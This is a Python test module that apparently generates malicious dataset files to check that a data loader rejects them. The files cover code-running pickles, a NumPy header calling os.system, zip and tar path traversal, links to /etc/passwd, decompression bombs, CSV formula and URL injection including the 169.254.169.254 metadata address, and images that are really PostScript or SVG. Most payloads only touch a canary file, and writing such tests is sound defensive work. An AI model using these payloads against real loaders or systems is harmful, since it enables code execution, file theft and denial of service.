"""Data from anybody: archives, tables and arrays that lie, and pictures that are none."""

import gzip
import io
import os
import struct
import zipfile
from collections.abc import Callable
from pathlib import Path

from archive_files import Zipped, member, tarred, zipped
from tfrecord_files import example, frame

from corpus.exploit import Exploit, Room, importing, touching, written

Make = Callable[[Room], object]
BOMB = bytes(1 << 26)


def source(name: str, file: str, tries: str, make: Make, *, kind: str = "listed") -> Exploit:
    """A source whose bytes `make` returns, or which it makes itself."""

    def place(room: Room) -> object:
        made = make(room)
        return written(room.folder / file, made) if isinstance(made, bytes) else made

    return Exploit(name=f"source: {name}", tries=tries, kind=kind, make=place)


def _picture(room: Room) -> bytes:
    return (room.good / "picture.png").read_bytes()


def _zip(*members: bytes, **fields: object) -> Make:
    return lambda room: zipped(
        *(Zipped(name=name, content=_picture(room), **fields) for name in members)  # type: ignore[arg-type]
    )


def _tar(kind: bytes, link: bytes) -> Make:
    return lambda room: tarred(
        member(b"cat/loop.png", b"", kind=kind, link=link),
        member(b"cat/loop.png/a.png", _picture(room)),
    )


def _objects(room: Room) -> bytes:
    header = b"{'descr': '|O', 'fortran_order': False, 'shape': (1,), }"
    header += b" " * (117 - len(header)) + b"\n"
    head = b"\x93NUMPY\1\0" + struct.pack("<H", len(header)) + header
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("x_train.npy", head + touching(room))
        archive.writestr("y_train.npy", head + touching(room))
    return buffer.getvalue()


def _npz(header: bytes) -> Make:
    def make(room: Room) -> bytes:
        text = header + b" " * (117 - len(header)) + b"\n"
        head = b"\x93NUMPY\1\0" + struct.pack("<H", len(text)) + text
        buffer = io.BytesIO()
        with zipfile.ZipFile(buffer, "w") as archive:
            archive.writestr("x_train.npy", head + bytes(64))
            archive.writestr("y_train.npy", head + bytes(64))
        return buffer.getvalue()

    return make


def _cifar(make: Callable[[Room], bytes]) -> Make:
    def place(room: Room) -> Path:
        folder = room.folder / "cifar-10-batches-py"
        for number in range(1, 6):
            written(folder / f"data_batch_{number}", make(room))
        written(folder / "test_batch", make(room))
        written(folder / "batches.meta", make(room))
        return folder

    return place


def _rows(*rows: str) -> Make:
    return lambda room: (
        "path,label\n" + "".join(row.format(secret=room.secret) + "\n" for row in rows)
    ).encode()


def _parquet(room: Room) -> bytes:
    import pyarrow
    import pyarrow.parquet

    buffer = io.BytesIO()
    columns = {"path": ["../../../secret", str(room.secret)], "label": ["a", "b"]}
    about = {b"pandas": touching(room), b"ARROW:extension:name": b"arrow.py_extension_type"}
    table = pyarrow.table(columns).replace_schema_metadata(about)
    pyarrow.parquet.write_table(table, buffer)
    return buffer.getvalue()


def _linked(room: Room) -> Path:
    folder = room.folder / "photos"
    for name in ("a", "b"):
        (folder / name).mkdir(parents=True)
        (folder / name / "x.png").symlink_to("/dev/zero")
        (folder / name / "loop").symlink_to(folder)
        os.mkfifo(folder / name / "pipe.png")
    return folder


def _lengths(length: int) -> Make:
    return lambda room: struct.pack("<Q", length) + bytes(4) + b"x" * 64


EXPLOITS = [
    source("a pickle", "data.npz", "code", touching, kind="source"),
    source("objects", "data.npz", "code in an array", _objects, kind="source"),
    source("CIFAR with code", "", "code", _cifar(touching), kind="source"),
    source("CIFAR that imports", "", "an import", _cifar(lambda r: importing())),
    source("CIFAR of protocol 4", "", "code", _cifar(lambda r: touching(r, protocol=4))),
    source("CIFAR with BUILD", "", "an attribute set", _cifar(lambda r: b"\x80\2cos\nenv\n}b.")),
    source("CIFAR with INST", "", "code", _cifar(
        lambda r: f"(S'touch {r.canary}'\nios\nsystem\n.".encode()
    )),
    source("CIFAR with EXT1", "", "the copyreg of the process", _cifar(lambda r: b"\x80\2\x82\1.")),
    source("CIFAR with PERSID", "", "what loads persistent names", _cifar(lambda r: b"Pevil\n.")),
    source("CIFAR of 2^31 bytes", "", "an allocation", _cifar(
        lambda r: b"\x80\3B\xff\xff\xff\x7f" + b"x" * 99
    )),
    source("a shape of 4 GB", "data.npz", "an allocation", _npz(
        b"{'descr': '<f4', 'fortran_order': False, 'shape': (1073741824,), }"
    ), kind="source"),
    source("a header of code", "data.npz", "evaluated text", _npz(
        b"__import__('os').system('touch canary')"
    )),
    source("a zip that climbs", "data.zip", "writing elsewhere", _zip(
        b"../../canary", b"a/../../../canary", b"..\\canary", b"a/x.png", b"b/y.png"
    ), kind="source"),
    source("a zip with absolute names", "data.zip", "writing elsewhere", _zip(
        b"/etc/canary", b"C:\\canary", b"//host/canary"
    )),
    source("a zip with links", "data.zip", "reading elsewhere", lambda r: zipped(
        Zipped(name=b"a/x.png", content=str(r.secret).encode(), mode=0o120777),
        Zipped(name=b"b/y.png", content=_picture(r)),
    ), kind="source"),
    source("a zip with devices", "data.zip", "endless reading", _zip(b"a/x.png", mode=0o020666)),
    source("a zip bomb", "data.zip", "memory", lambda r: zipped(
        Zipped(name=b"a/x.png", content=BOMB, method=8),
        Zipped(name=b"b/y.png", content=BOMB, method=8),
    ), kind="source"),
    source("a zip in a zip", "data.zip", "memory", lambda r: zipped(
        Zipped(name=b"a/x.zip", content=zipped(Zipped(name=b"x", content=BOMB, method=8)))
    )),
    source("a zip with one name twice", "data.zip", "two readings", _zip(b"a/x.png", b"a/x.png")),
    source("a zip of 2^63 bytes", "data.zip", "an allocation", lambda r: zipped(
        Zipped(name=b"a/x.png", unpacked=1 << 63, packed=1 << 63, wide=True)
    )),
    source("a zip with a pickle", "data.zip", "code", lambda r: zipped(
        Zipped(name=b"a/x.pkl", content=touching(r)), Zipped(name=b"b/y.pt", content=touching(r))
    )),
    source("a zip with names that steer", "data.zip", "the screen", _zip(
        b"\x1b[2J\x1b]0;pwned\x07/x.png", b"[link=x]a[/link]/y.png"
    ), kind="source"),
    source("a tar that climbs", "data.tar", "writing elsewhere", lambda r: tarred(
        member(b"../../canary", b"x"), member(b"/etc/canary", b"x"), member(b"a/x.png", _picture(r))
    ), kind="source"),
    source("a tar with links", "data.tar", "reading elsewhere", _tar(b"2", b"/etc/passwd")),
    source("a tar with hard links", "data.tar", "reading elsewhere", _tar(b"1", b"/etc/passwd")),
    source("a tar with devices", "data.tar", "endless reading", _tar(b"3", b"")),
    source("a tar with a pipe", "data.tar", "an endless wait", _tar(b"6", b"")),
    source("a tar of 8 EiB", "data.tar", "an allocation", lambda r: tarred(
        member(b"a/x.png", size=b"\x80" + bytes(3) + b"\x7f" + b"\xff" * 7)
    )),
    source("a tar bomb", "data.tar.gz", "disk and memory", lambda r: gzip.compress(
        tarred(member(b"a/x.png", BOMB), member(b"b/y.png", BOMB))
    )),
    source("a WebDataset with pickles", "data.tar", "code", lambda r: tarred(
        member(b"1.cls.pkl", touching(r)), member(b"1.png", _picture(r)),
        member(b"2.pyd", touching(r)), member(b"2.pth", touching(r)),
    ), kind="source"),
    source("a record of 8 EiB", "data.tfrecord", "an allocation", _lengths((1 << 63) - 1)),
    source("a record of 2 GB", "data.tfrecord", "an allocation", _lengths(1 << 31)),
    source("a record with a pickle", "data.tfrecord", "code", lambda r: frame(
        example({"image": touching(r), "label": 1})
    )),
    source("an IDX of 4 GB", "train-images-idx3-ubyte", "an allocation", lambda r: struct.pack(
        ">4I", 0x803, 65536, 256, 256
    )),
    source("an IDX that wraps", "train-images-idx3-ubyte", "a product of 0", lambda r: struct.pack(
        ">4I", 0x803, 65536, 65536, 0xFFFFFFFF
    )),
    source("a gzip bomb", "train-images-idx3-ubyte.gz", "memory", lambda r: gzip.compress(
        struct.pack(">4I", 0x803, 4, 28, 28) + BOMB
    )),
    source("rows that are formulas", "data.csv", "a spreadsheet", _rows(
        "=HYPERLINK(\"x\"),=cmd|'/c calc'!A1", "@SUM(1),+1+1", "-2+3,a"
    )),
    source("rows that are addresses", "data.csv", "a request", _rows(
        "http://169.254.169.254/a.png,a", "file:///etc/passwd,b", "|touch canary,c"
    )),
    source("Parquet with a pickle", "data.parquet", "code and paths", _parquet),
    source("a folder of links and pipes", "", "an endless wait", _linked),
    source("a pipe", "", "an endless wait", lambda r: (
        os.mkfifo(r.folder / "data.npz") or r.folder / "data.npz"
    ), kind="source"),
    source("a device", "", "endless reading", lambda r: "/dev/zero", kind="source"),
    source("a picture that is a pickle", "x.png", "code", touching, kind="picture"),
    source("a picture that is a program", "x.png", "code", lambda r: (
        b"%!PS\n(" + str(r.canary).encode() + b") (w) file closefile\n"
    ), kind="picture"),
    source("a picture that is a drawing", "x.png", "reading elsewhere", lambda r: (
        b'<svg xmlns="http://www.w3.org/2000/svg"><image href="file:///etc/passwd"/></svg>'
    ), kind="picture"),
    source("a picture that is a pipe", "", "an endless wait", lambda r: (
        os.mkfifo(r.folder / "x.png") or r.folder / "x.png"
    ), kind="picture"),
    source("a picture of 4 GB", "x.bmp", "an allocation", lambda r: b"BM" + struct.pack(
        "<IHHIIiiHHIIiiII", 1 << 30, 0, 0, 54, 40, 60000, 60000, 1, 24, 0, 0, 0, 0, 0, 0
    ), kind="picture"),
]  # fmt: skip
